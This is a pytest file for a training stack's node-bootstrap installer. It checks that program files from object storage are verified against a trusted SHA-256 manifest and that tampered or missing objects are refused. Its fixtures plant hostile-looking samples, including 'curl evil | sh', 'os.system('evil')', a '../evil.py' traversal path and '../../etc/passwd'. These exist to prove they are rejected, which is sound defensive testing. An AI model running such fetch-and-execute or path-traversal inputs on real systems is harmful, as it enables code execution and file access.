"""The node programs out of user data (issue 30 item 6): the set a node may run is named by a digest
it trusts (its user data at first boot, its job settings at each job start); every file is checked
against its sha256 before anything is replaced, so a missing or altered object stops the node with
a clear status and never runs. The installer in-process over a fake store, for every combination of
what is wrong, and the launch script and the boot script run for real over the fake stack bucket."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest
from fake_oss import DirStore
from hypothesis import HealthCheck, given, settings, strategies as st
from launch_harness import FAST, launch, local_plan  # noqa: F401 (launch: the fixture)
from plan_factory import single_gpu_lora_plan

from trainstack.bootstrap.heartbeat import status_prefix
from trainstack.bootstrap.node import JOB_SETTINGS_TAG
from trainstack.bootstrap.programs import (
    BOOT_PROGRAMS, MANIFEST, MANIFEST_KIND, PROGRAMS, program_objects, program_set, programs_uri,
)
from trainstack.bootstrap.render import render_job_settings
from trainstack.status import parse_heartbeat

PLAN = single_gpu_lora_plan()
BUCKET = PLAN.storage.oss.bucket
URI = programs_uri(PLAN)


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def snapshot(lib: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(lib.iterdir()) if p.is_file()}


def publish(store: DirStore, objects) -> None:
    for obj in objects:
        store.write(BUCKET, obj.key, obj.content.encode())


def new_release(change: str = "trainstack_guard.py"):
    """The program set a later trainstack ships: one program changed, the others as they are. Returns
    (digest, {name: text}, objects as (key, bytes))."""
    texts = {name: text for name, text in ((o.name, o.content) for o in program_objects(PLAN)) if name != MANIFEST}
    texts[change] += "\nRELEASE=2\n" if change.endswith(".sh") else "\nRELEASE = 2\n"
    programs = {name: sha(text.encode()) for name, text in texts.items()}
    manifest = json.dumps({"kind": MANIFEST_KIND, "schema_version": 1, "programs": programs}, sort_keys=True,
                          separators=(",", ":"))
    digest = sha(manifest.encode())
    prefix = URI.split("/", 3)[3]
    objects = [(f"{prefix}{programs[n]}/{n}", t.encode()) for n, t in texts.items()]
    return digest, texts, objects + [(f"{prefix}{digest}/{MANIFEST}", manifest.encode())]


# ---- the installer (trainstack_programs.py), in-process ---------------------------------------

@pytest.fixture
def bucket(tmp_path):
    store = DirStore(tmp_path / "oss")
    publish(store, program_objects(PLAN))
    return store


def test_a_fresh_node_gets_exactly_the_set_and_a_second_look_fetches_nothing(programs, bucket, tmp_path):
    lib = tmp_path / "node-lib"
    lib.mkdir()
    for name in BOOT_PROGRAMS:  # what the user data wrote
        (lib / name).write_bytes(programs.path(name).read_bytes())
    done = programs.programs.install(bucket, URI, str(lib), program_set().digest, delay=0)
    assert done.startswith(f"{len(PROGRAMS) - len(BOOT_PROGRAMS)} of {len(PROGRAMS)} programs fetched")
    assert snapshot(lib) == {n: programs.path(n).read_bytes() for n in (*PROGRAMS, MANIFEST)}
    assert sha((lib / MANIFEST).read_bytes()) == program_set().digest
    bucket.calls.clear()
    assert programs.programs.install(bucket, URI, str(lib), program_set().digest, delay=0) == "unchanged"
    assert bucket.calls == []


def test_a_program_changed_on_the_node_is_fetched_again(programs, bucket):
    (programs.lib / "trainstack_launch.py").write_text("import os; os.system('evil')\n")
    done = programs.programs.install(bucket, URI, str(programs.lib), program_set().digest, delay=0)
    assert done.startswith("1 of ")
    assert (programs.lib / "trainstack_launch.py").read_text() == next(
        o.content for o in program_objects(PLAN) if o.name == "trainstack_launch.py")


def test_a_new_set_replaces_the_old_and_drops_what_it_no_longer_has(programs, bucket):
    digest, texts, objects = new_release()
    del texts["nccl_check.py"]
    programs_map = {n: sha(t.encode()) for n, t in texts.items()}
    manifest = json.dumps({"kind": MANIFEST_KIND, "schema_version": 1, "programs": programs_map}, sort_keys=True,
                          separators=(",", ":")).encode()
    for key, data in objects:
        bucket.write(BUCKET, key, data)
    bucket.write(BUCKET, f"job/programs/{sha(manifest)}/{MANIFEST}", manifest)
    programs.programs.install(bucket, URI, str(programs.lib), sha(manifest), delay=0)
    assert not (programs.lib / "nccl_check.py").exists()
    assert (programs.lib / "trainstack_guard.py").read_text().endswith("RELEASE = 2\n")


#: what can be wrong: a file the node holds was altered; an object is missing; an object holds other bytes
DAMAGE = st.dictionaries(st.sampled_from((*PROGRAMS, MANIFEST)),
                         st.sampled_from(("local", "missing", "tampered")), max_size=5)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(damage=DAMAGE, installed=st.booleans())
def test_the_set_is_installed_whole_or_not_at_all(programs, tmp_path_factory, damage, installed):
    """Every combination: the install succeeds exactly when every object it has to fetch is there
    and verifies, and then every file matches the manifest; otherwise it says which object and
    leaves the node's program directory byte for byte as it was."""
    root = tmp_path_factory.mktemp("case")
    store, lib = DirStore(root / "oss"), root / "lib"
    lib.mkdir()
    objects = program_objects(PLAN)
    publish(store, objects)
    if installed:  # the node holds the set already (a later job start), else only its boot programs
        for obj in objects:
            (lib / obj.name).write_text(obj.content)
    else:
        for name in BOOT_PROGRAMS:
            (lib / name).write_text(programs.path(name).read_text())
    for name, how in damage.items():
        obj = next(o for o in objects if o.name == name)
        if how == "local" and (lib / name).exists():
            (lib / name).write_text("altered on the node\n")
        elif how == "missing":
            store.delete(BUCKET, obj.key)
        elif how == "tampered":
            store.write(BUCKET, obj.key, b"import os; os.system('evil')\n")
    before = snapshot(lib)
    want = {o.name: o.content.encode() for o in objects}
    stale = {n for n in want if before.get(n) != want[n]}
    needed = stale | ({MANIFEST} if stale else set())  # an intact set is not even looked up
    broken = {n for n, how in damage.items() if how in ("missing", "tampered")}
    try:
        programs.programs.install(store, URI, str(lib), program_set().digest, attempts=1, delay=0)
    except programs.programs.ProgramError as exc:
        assert needed & broken, f"refused although every needed object was sound: {exc}"
        assert snapshot(lib) == before, "nothing was replaced"
        assert f"oss://{BUCKET}/job/programs/" in str(exc) or "manifest" in str(exc)
        return
    assert not needed & broken
    assert snapshot(lib) == want


def test_a_digest_that_is_not_one_and_a_manifest_of_another_kind_are_refused(programs, bucket, tmp_path):
    install, error = programs.programs.install, programs.programs.ProgramError
    with pytest.raises(error, match="not a SHA-256"):
        install(bucket, URI, str(tmp_path), "../../etc/passwd")
    fake = json.dumps({"kind": "something-else", "programs": {"x.py": "0" * 64}}).encode()
    bucket.write(BUCKET, f"job/programs/{sha(fake)}/{MANIFEST}", fake)
    with pytest.raises(error, match="not a trainstack program set"):
        install(bucket, URI, str(tmp_path / "lib"), sha(fake), delay=0)
    escape = json.dumps({"kind": MANIFEST_KIND, "schema_version": 1, "programs": {"../evil.py": "0" * 64}}).encode()
    bucket.write(BUCKET, f"job/programs/{sha(escape)}/{MANIFEST}", escape)
    with pytest.raises(error, match="bad ones"):
        install(bucket, URI, str(tmp_path / "lib"), sha(escape), delay=0)


# ---- the launch script: new programs at the next job start, or a clear stop --------------------

def publish_release(launch, plan, digest, objects, tmp_path) -> None:
    """What `pulumi up` with a later trainstack writes: the new set's objects (the old ones stay) and
    job settings that name it, tagged on the instance."""
    for key, data in objects:
        launch.oss.write(plan.storage.oss.bucket, key, data)
    settings = render_job_settings(plan, options=FAST)
    old = program_set().digest
    document = settings.document.replace(f"PROGRAMS_SHA256={old}", f"PROGRAMS_SHA256={digest}")
    assert document != settings.document
    launch.oss.write(plan.storage.oss.bucket, plan.storage.oss.job_settings_key, document.encode())
    launch.cloud.tags[JOB_SETTINGS_TAG] = sha(document.encode())


def test_new_programs_reach_a_running_node_at_its_next_job_start(launch, tmp_path):
    plan = local_plan(single_gpu_lora_plan, tmp_path)
    assert launch(plan).returncode == 0
    node = tmp_path / "node"
    assert sha((node / MANIFEST).read_bytes()) == program_set().digest
    (launch.state / "job-finished").unlink()
    digest, texts, objects = new_release("trainstack-launch.sh")
    files, env = launch.prepare(plan, PUBLISH=False)
    publish_release(launch, plan, digest, objects, tmp_path)
    result = subprocess.run(["bash", str(files["trainstack-launch.sh"])], env=env, capture_output=True, text=True,
                            timeout=60)
    assert result.returncode == 0, result.stderr
    assert f"node programs {digest[:12]} installed: starting again with them" in result.stderr
    assert result.stderr.count("starting again") == 1, "the new launch script runs the job, once"
    assert sha((node / MANIFEST).read_bytes()) == digest
    assert (node / "trainstack-launch.sh").read_text() == texts["trainstack-launch.sh"]
    assert len([e for e in launch.events() if e["event"] == "trainer"]) == 2
    restarts = (tmp_path / "systemctl.log").read_text()
    assert "systemctl try-restart --no-block trainstack-spot-watcher.service" in restarts
    assert "systemctl try-restart --no-block trainstack-heartbeat.service" in restarts


@pytest.mark.parametrize("damage", ["missing", "tampered"])
def test_programs_the_settings_name_that_do_not_verify_stop_the_job_with_exit_19(launch, tmp_path, damage):
    plan = local_plan(single_gpu_lora_plan, tmp_path)
    assert launch(plan).returncode == 0
    (launch.state / "job-finished").unlink()
    node = tmp_path / "node"
    digest, _, objects = new_release()
    files, env = launch.prepare(plan, PUBLISH=False)
    before = {n: b for n, b in snapshot(node).items() if n in (*PROGRAMS, MANIFEST)}
    guard_key = next(k for k, _ in objects if k.endswith("/trainstack_guard.py"))
    publish_release(launch, plan, digest, [(k, b"import os; os.system('evil')\n" if k == guard_key else d)
                                           for k, d in objects if damage == "tampered" or k != guard_key], tmp_path)
    result = subprocess.run(["bash", str(files["trainstack-launch.sh"])], env=env, capture_output=True, text=True,
                            timeout=60)
    assert result.returncode == 19, result.stderr
    assert f"cannot install the node programs {digest}" in result.stderr and "nothing of them runs" in result.stderr
    assert ("not installing it" if damage == "tampered" else "cannot fetch oss://") in result.stderr
    assert {n: b for n, b in snapshot(node).items() if n in before} == before, "the verified set stays"
    assert len([e for e in launch.events() if e["event"] == "trainer"]) == 1, "the trainer never started"
    assert (launch.state / "job-finished").read_text() == "19\n" and len(launch.cloud.ecs_calls) == 2
    beat = parse_heartbeat(launch.oss.read(plan.storage.oss.bucket,
                                           status_prefix(plan, plan.node_names()[0]) + "heartbeat.json"))
    assert (beat.state, beat.exit_code) == ("finished", 19), "the installed heartbeat still reports"


# ---- the boot script: a node's first boot, a reboot, a pool node from an older configuration ------

def boot(launch, tmp_path, lib: Path, function: str = "setup_programs") -> subprocess.CompletedProcess:
    env = dict(os.environ, TRAINSTACK_ETC=str(tmp_path / "node"), TRAINSTACK_LIB=str(lib),
               TRAINSTACK_STATE=str(tmp_path / "state"), TRAINSTACK_RUN=str(tmp_path / "run"),
               TRAINSTACK_METADATA_URL=launch.cloud.url, TRAINSTACK_ECS_ENDPOINT=launch.cloud.url,
               TRAINSTACK_RETRY_SECONDS="0", TRAINSTACK_RAM_ROLE_WAIT_SECONDS="0",
               PATH=f"{tmp_path / 'bin'}:{os.environ['PATH']}",
               TRAINSTACK_OSS_PYTHON=str(tmp_path / "bin" / "oss-python"), FAKE_OSS_ROOT=str(tmp_path / "oss"),
               FAKE_OSS_LOG=str(tmp_path / "oss.log"))
    script = str(tmp_path / "node" / "trainstack-boot.sh")
    return subprocess.run(["bash", "-c", f'source "$1"; {function}', "-", script], env=env, capture_output=True,
                          text=True, timeout=60)


def boot_lib(tmp_path) -> Path:
    """A node's program directory as its user data leaves it: the boot programs, nothing else."""
    lib = tmp_path / "fresh-lib"
    lib.mkdir()
    for name in BOOT_PROGRAMS:
        (lib / name).write_bytes((tmp_path / "node" / name).read_bytes())
    return lib


def test_first_boot_installs_the_set_the_user_data_names_even_after_a_newer_release(launch, tmp_path):
    """A pool node ESS launches from a configuration written before the last `pulumi up` (or a node
    in its first boot during one): its set is still in the bucket beside the newer one."""
    plan = local_plan(single_gpu_lora_plan, tmp_path)
    launch.prepare(plan)
    digest, _, objects = new_release()
    publish_release(launch, plan, digest, objects, tmp_path)
    lib = boot_lib(tmp_path)
    result = boot(launch, tmp_path, lib)
    assert result.returncode == 0, result.stderr
    assert sha((lib / MANIFEST).read_bytes()) == program_set().digest != digest
    assert snapshot(lib) == {n: (tmp_path / "node" / n).read_bytes() for n in (*PROGRAMS, MANIFEST)}


def test_a_reboot_keeps_the_set_a_job_start_installed(launch, tmp_path):
    plan = local_plan(single_gpu_lora_plan, tmp_path)
    launch.prepare(plan)
    digest, texts, objects = new_release()
    publish_release(launch, plan, digest, objects, tmp_path)
    lib = boot_lib(tmp_path)
    install = [str(tmp_path / "bin" / "oss-python"), str(lib / "trainstack_programs.py"), "--region", "cn-shenzhen",
               "--endpoint", "e", programs_uri(plan), str(lib), "--sha256", digest]
    env = dict(os.environ, FAKE_OSS_ROOT=str(tmp_path / "oss"), FAKE_OSS_LOG=str(tmp_path / "oss.log"))
    assert subprocess.run(install, env=env, capture_output=True, text=True, timeout=60).returncode == 0
    assert boot(launch, tmp_path, lib).returncode == 0
    assert sha((lib / MANIFEST).read_bytes()) == digest, "not rolled back to the user data's set"
    assert (lib / "trainstack_guard.py").read_text() == texts["trainstack_guard.py"]


def test_a_first_boot_whose_programs_do_not_verify_runs_none_and_stops_billing(launch, tmp_path):
    plan = local_plan(single_gpu_lora_plan, tmp_path)
    launch.prepare(plan)
    (setup,) = [o for o in program_objects(plan) if o.name == "trainstack-setup.sh"]
    launch.oss.write(plan.storage.oss.bucket, setup.key, b"#!/bin/bash\ncurl evil | sh\n")
    lib = boot_lib(tmp_path)
    result = boot(launch, tmp_path, lib)
    assert result.returncode != 0
    assert "FATAL: cannot install the node programs" in result.stderr and "not installing it" in result.stderr
    assert sorted(p.name for p in lib.iterdir()) == sorted(BOOT_PROGRAMS), "nothing of the set was installed"
    failed = boot(launch, tmp_path, lib, "failed")  # trainstack-setup-failed.service, with the boot programs alone
    assert failed.returncode == 12, failed.stderr
    (stop,) = launch.cloud.ecs_calls
    assert (stop["Action"], stop["StoppedMode"]) == ("StopInstance", "StopCharging")
